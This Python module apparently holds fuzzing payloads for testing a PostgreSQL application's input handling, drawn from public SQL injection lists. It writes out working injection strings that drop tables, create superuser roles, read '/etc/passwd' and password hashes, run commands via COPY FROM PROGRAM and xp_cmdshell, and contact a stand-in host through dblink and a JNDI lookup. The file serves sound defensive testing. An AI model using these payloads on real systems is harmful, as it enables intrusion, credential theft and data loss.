"""Text that people send to break a database: SQL injection as published, and strings that are hard to carry.

``PAYLOADS`` holds each once. The short strings were selected from these public lists (the strings are facts; the
order, the groups and the strings for this schema are our own):

- SecLists, ``Fuzzing/Databases/SQLi/Generic-SQLi.txt``, ``quick-SQLi.txt``, ``SQLi-Polyglots.txt``,
  ``sqlmap-risk-classified`` and ``Fuzzing/Databases/Postgres-Enumeration.fuzzdb.txt`` (the last one is from fuzzdb):
  https://github.com/danielmiessler/SecLists
- PayloadsAllTheThings, ``SQL Injection/README.md`` and ``SQL Injection/PostgreSQL Injection.md``:
  https://github.com/swisskyrepo/PayloadsAllTheThings
- sql-injection-payload-list: https://github.com/payload-box/sql-injection-payload-list
- Big List of Naughty Strings, for text that is no SQL: https://github.com/minimaxir/big-list-of-naughty-strings

A payload that runs shows itself: it drops a table, ends a transaction, makes a role, sleeps for ten minutes, or gives
more rows than it should.
"""
# ruff: noqa: RUF001 - letters that look like others are the point

from __future__ import annotations

_QUOTES = r"""
'
"
`
''
""
'"
"''''"'"
\
\\
\'
\"
\\'
';
")
')
'))
'||'
'+'
'-'
'&'
'^'
'*'
' '
"-"
/*
*/
/**/
--
-- -
#
;
;--
%
_
%%
%00
$
$$
$1
$2::text
?
:id
%s
%(id)s
{0}
{id}
${id}
"""
"""What ends a text, a comment or a placeholder; and placeholders of drivers and formats."""

_TRUE_AND_FALSE = r"""
' or 1=1
' or 1=1--
' or 1=1 --
' or 1=1#
' or 1=1/*
' or 1=1 limit 1 -- -+
' or '1'='1
' or '1'='1'--
' or '1'='1'/*
' or 'x'='x
' or ''='
' or true--
' or 1 --'
' or 2 > 1
' or 2 between 1 and 3
' or 'text' > 't'
' or 'whatever' in ('whatever')
' or 'something' = 'some'||'thing'
' or a=a--
' or (EXISTS)
' or 0=0 --
' or username like '%
' or userid like '%
') or ('1'='1
') or ('a'='a
')) or (('x'))=(('x
') or true--
" or 1=1--
" or "a"="a
") or ("x")=("x
")) or (("x"))=(("x
or 1=1
or 1=1--
1 or 1=1
1) or (1=1
23 OR 1=1
1' and '1'='2
' and 1=2 --
1 AND 1=0
admin' --
admin'/*
admin' or '1'='1
admin' or '1'='1'--
admin'or 1=1 or ''='
admin') or ('1'='1'--
admin' or 2 LIKE 2--
admin" --
admin" or "1"="1"--
anything' OR 'x'='x
x' AND email IS NULL; --
x' AND 1=(SELECT COUNT(*) FROM tabname); --
x' OR full_name LIKE '%Bob%
hi' or 'x'='x';
'='
'LIKE'
'=0--+
1-false
1*56
/**/or/**/1/**/=/**/1
"""
"""Conditions that give every row, or none."""

_UNIONS = r"""
' UNION SELECT NULL--
' UNION SELECT NULL,NULL,NULL--
' UNION ALL SELECT NULL,NULL,NULL,NULL,NULL,NULL,NULL,NULL--
' UNION SELECT sum(columnname) from tablename --
' union select * from information_schema.tables;
') union select * from information_schema.tables;
-1' UNION SELECT 1,2,3--+
1234 ' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055
admin' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055'
'''''''''''''UNION SELECT '2
uni/**/on sel/**/ect
1' ORDER BY 1--+
1' ORDER BY 31337--+
' GROUP BY columnnames having 1=1 --
' having 1=1--
' group by userid having 1=1--
' UNION SELECT id::text, username FROM users--
' UNION SELECT wrapped_key::text FROM user_keys--
' UNION SELECT token_hash::text FROM user_sessions--
' UNION SELECT usename, passwd FROM pg_shadow--
' UNION SELECT rolname, rolpassword FROM pg_authid--
"""
"""Other rows, and other tables."""

_POSTGRESQL = r"""
select version();
select current_database();
select current_user;
select session_user;
select current_setting('config_file');
select current_setting('hba_file');
select current_setting('data_directory');
select * from pg_shadow;
select * from pg_group;
5::int=5
pg_client_encoding()=pg_client_encoding()
quote_literal(42.5)=quote_literal(42.5)
get_current_ts_config()=get_current_ts_config()
' and substr(version(),1,10) = 'PostgreSQL' and '1
,cAsT(chr(126)||vErSiOn()||chr(126)+aS+nUmeRiC)
' and 1=cast((select table_name from information_schema.tables limit 1 offset 0) as int) and '1'='1
' and 1=cast((select username from users limit 1) as int)--
'||(select version())||'
'||cast((select current_user) as numeric)||'
'||pg_sleep(600)||'
'||pg_sleep(600)--
' or pg_sleep(600)--
') or pg_sleep(600)--
1 or pg_sleep(600)--
1)) or pg_sleep(600)--
pg_sleep(600)--
';select pg_sleep(600)--
;SELECT PG_SLEEP(600)
' AND 1=(SELECT 1 FROM PG_SLEEP(600))--
' AND 1=(SELECT COUNT(*) FROM GENERATE_SERIES(1,6000000000))--
'; select case when (1=1) then pg_sleep(600) else pg_sleep(0) end--
'; DO $$ BEGIN PERFORM pg_sleep(600); END $$;--
$$ or 1=1--
$$; DROP TABLE users; $$
$tag$; DROP TABLE users; $tag$
$quote$it's$quote$
$a$ $b$ $a$
'; DO $body$ BEGIN EXECUTE 'DROP TABLE users CASCADE'; END $body$;--
E'\' or 1=1--'
E'\x27 or 1=1--'
E'\047 OR 1=1--'
U&'\0027 or 1=1--'
U&"d\0061t\+000061"
B'1' or 1=1--
X'27' or 1=1--
'::text or 1=1--
'::uuid
'::regclass
'::jsonb ? 'a
' COLLATE "C" or 1=1--
'/**/OR/**/1=1/**/--
'/*/**/*/or 1=1--
' or 1=1 -- \
'; SELECT lo_import('/etc/passwd');--
select pg_ls_dir('./');
select pg_read_file('PG_VERSION', 0, 200);
select pg_read_file('/etc/passwd');
'; SELECT pg_reload_conf();--
'; SELECT pg_terminate_backend(pid) FROM pg_stat_activity;--
'; SELECT set_config('novadex.user_id', '', false);--
'; SELECT set_config('session_replication_role', 'replica', false);--
'; SELECT dblink_connect('host=198.51.100.1');--
'; SELECT query_to_xml('select * from users', true, true, '');--
'; SELECT currval('users_id_seq');--
"""
"""What PostgreSQL alone knows: its functions, dollar quotes, escapes, casts and comments within comments."""

_STACKED = r"""
'; DROP TABLE users;--
'; DROP TABLE users CASCADE; --
Robert'); DROP TABLE Students;--
1;DROP TABLE users
1'; DROP TABLE users-- 1
'; TRUNCATE users CASCADE;--
'; DELETE FROM wallets;--
'; DELETE FROM user_sessions;--
'; UPDATE users SET role = 'admin';--
', role = 'admin' WHERE true;--
', 'admin')--
'), ('x', 'admin')--
'; INSERT INTO api_keys DEFAULT VALUES;--
'; ALTER ROLE novadex_app SUPERUSER;--
'; CREATE ROLE intruder SUPERUSER LOGIN PASSWORD 'x';--
'; GRANT novadex_owner TO novadex_app;--
'; SET ROLE novadex_owner;--
'; RESET ROLE;--
'; SET SESSION AUTHORIZATION postgres;--
'; COMMIT; DROP TABLE users;--
'; ROLLBACK;--
'; BEGIN; LOCK TABLE users;--
'; DISCARD ALL;--
'; ALTER TABLE audit_log DISABLE TRIGGER ALL;--
'; DROP FUNCTION read_mark();--
'; NOTIFY anything, 'x';--
'; COPY (SELECT '') TO PROGRAM 'touch /tmp/novadex-was-injected';--
COPY cmd_exec FROM PROGRAM 'id';
'; CREATE TABLE cmd_exec(cmd_output text); COPY cmd_exec FROM PROGRAM 'id';--
copy myfile from '/etc/passwd';
COPY users TO '/tmp/novadex-was-injected';
'; COPY users TO STDOUT;--
\copy users to '/tmp/novadex-was-injected'
\! touch /tmp/novadex-was-injected
\c postgres
\.
CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE C;
'; CREATE EXTENSION dblink;--
'; PREPARE x AS SELECT 1; EXECUTE x;--
'; EXPLAIN ANALYZE DELETE FROM users;--
"""
"""A second statement."""

_OTHER_DATABASES = r"""
'; exec master..xp_cmdshell 'ping 198.51.100.1'--
';waitfor delay '0:0:30'--
");waitfor delay '0:0:30'--
1 waitfor delay '0:0:10'--
'; exec xp_regread
declare @q nvarchar (200) select @q = 0x770061006900740066006F007200200064 exec(@q)
' or sleep(30)#
1)) or sleep(30)#
1 or benchmark(10000000,MD5(1))#
' union select 1,load_file('/etc/passwd'),1,1,1;
'||UTL_HTTP.REQUEST
'; begin dbms_lock.sleep(30); end
SLEEP(1) /*' or SLEEP(1) or '" or SLEEP(1) or "*/
IF(SUBSTR(@@version,1,1)<5,BENCHMARK(2000000,SHA1(0xDE7EC71F1)),SLEEP(1))/*'XOR(IF(SUBSTR(@@version,1,1)<5,BENCHMARK(2000000,SHA1(0xDE7EC71F1)),SLEEP(1)))OR'|"XOR(IF(SUBSTR(@@version,1,1)<5,BENCHMARK(2000000,SHA1(0xDE7EC71F1)),SLEEP(1)))OR"*/
@@version
@variable
RLIKE (SELECT (CASE WHEN (4346=4346) THEN 0x61646d696e ELSE 0x28 END)) AND 'Txws'='
"""
"""What other databases would run: here it must be text like any other."""

_ENCODED = r"""
%27
%27%20or%201=1
%2527
%%2727
'%20or%20''='
%bf%27 or 1=1--
%C0%80%27%C0%80%C0%80%C0%80O%C0%82R%C0%80%C0%801%C0%80%C0%A11
%u0027 or 1=1--
&apos; or 1=1--
&#39; or 1=1--
\u0027 or 1=1--
\x27UNION SELECT
\047 or 1=1--
0x27206f7220313d31
1%09and%091=1%09--
1%A0and%A01=1%A0--
ʹ or 1=1--
ʺ or 1=1--
＇ or 1=1--
＂ or 1=1--
‘ or 1=1--
’ or ’1’=’1
′ or 1=1--
ÿ' or 1=1--
縗' or 1=1--
'；ＤＲＯＰ ＴＡＢＬＥ ｕｓｅｒｓ；－－
"""
"""Quotes in another dress: escaped, doubled, wide, and those that a careless conversion turns into a plain one."""

_NO_SQL = r"""
*(|(objectclass=*))
{"$gt": ""}
{"$ne": null}
<script>alert(1)</script>
<!--#exec cmd="id"-->
<?php system('id'); ?>
../../../../etc/passwd
$(touch /tmp/novadex-was-injected)
`touch /tmp/novadex-was-injected`
| touch /tmp/novadex-was-injected
;touch /tmp/novadex-was-injected
{{7*7}}
${jndi:ldap://198.51.100.1/a}
__class__
__proto__
NULL
null
undefined
None
NaN
Infinity
-1
9223372036854775808
1e309
1/0
true
,./;'[]\-=
<>?:"{}|_+
!@#$%^&*()`~
田中さんにあげて下さい
𠜎𠜱𠝹𠱓𠱸𠲖𠳏
Ω≈ç√∫˜µ≤≥÷
הָיְתָהtestالصفحات التّحول
Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮
ﬁ
İ
ſ
"""
"""Text that other layers would run, that looks like another type, or that changes when it is normalised."""

_CONTROLS = [
    "\x00",
    "'\x00 or 1=1--",
    "admin\x00' --",
    "' or 1=1;\x00",
    "\x1a' or 1=1--",
    "\x08' or 1=1--",
    "\x7f",
    "\x85' or 1=1--",
    "'\nor\n1=1--",
    "'\r\nor 1=1--",
    "--\n; DROP TABLE users",
    "' -- \r\n; DROP TABLE users;",
    "'\tor\t1=1--",
    "'\x0bor\x0b1=1--",
    "'\x0cor\x0c1=1--",
    "'\xa0or\xa01=1--",
    "'\u2028; DROP TABLE users;--",
    "\ufeff' or 1=1--",
    "\u200b' or 1=1--",
    "\u202e--1=1 ro '",
    "\ufffe",
    "\uffff' or 1=1--",
    "\U000e0001' or 1=1--",
    "\xbf' or 1=1--",
    "\U0001f469\U0001f3fd\u200d\U0001f4bb",
]
"""Null bytes, control characters, line ends, other spaces, marks that nobody sees, code points that are none."""

_LONE_SURROGATES = ["\ud800", "\udc00' or 1=1--", "'\udcff or 1=1--", "\ud83d\ud83d", "\udfff\ud800"]
"""Halves of characters: JSON can write them, UTF-8 cannot. Python puts undecodable bytes of arguments so."""

_LONG = [
    "'" * 10_000,
    "\\" * 9_999,
    "' or 1=1--" + " " * 100_000,
    "A" * 1_000_000,
    "A" * 100_000 + "'; DROP TABLE users;--",
    "(" * 50_000,
    "/*" * 50_000,
    "' or '1'='1" * 5_000,
    "$$" * 20_000,
    "\U0001f4a5" * 50_000,
]
"""Long enough to overflow a field, an index entry (2,704 bytes), a statement parser's stack."""


def _lines(text: str) -> list[str]:
    return [line for line in text.split("\n") if line]


SQL: list[str] = [
    *_lines(_QUOTES),
    *_lines(_TRUE_AND_FALSE),
    *_lines(_UNIONS),
    *_lines(_POSTGRESQL),
    *_lines(_STACKED),
    *_lines(_OTHER_DATABASES),
    *_lines(_ENCODED),
]
"""Each on one line, without control characters, at most some hundred characters: may be part of a URL or a file."""

UNUSUAL: list[str] = [*_lines(_NO_SQL), *_CONTROLS, *_LONE_SURROGATES]
LONG: list[str] = _LONG
PAYLOADS: list[str] = [*dict.fromkeys([*SQL, *UNUSUAL, *LONG])]
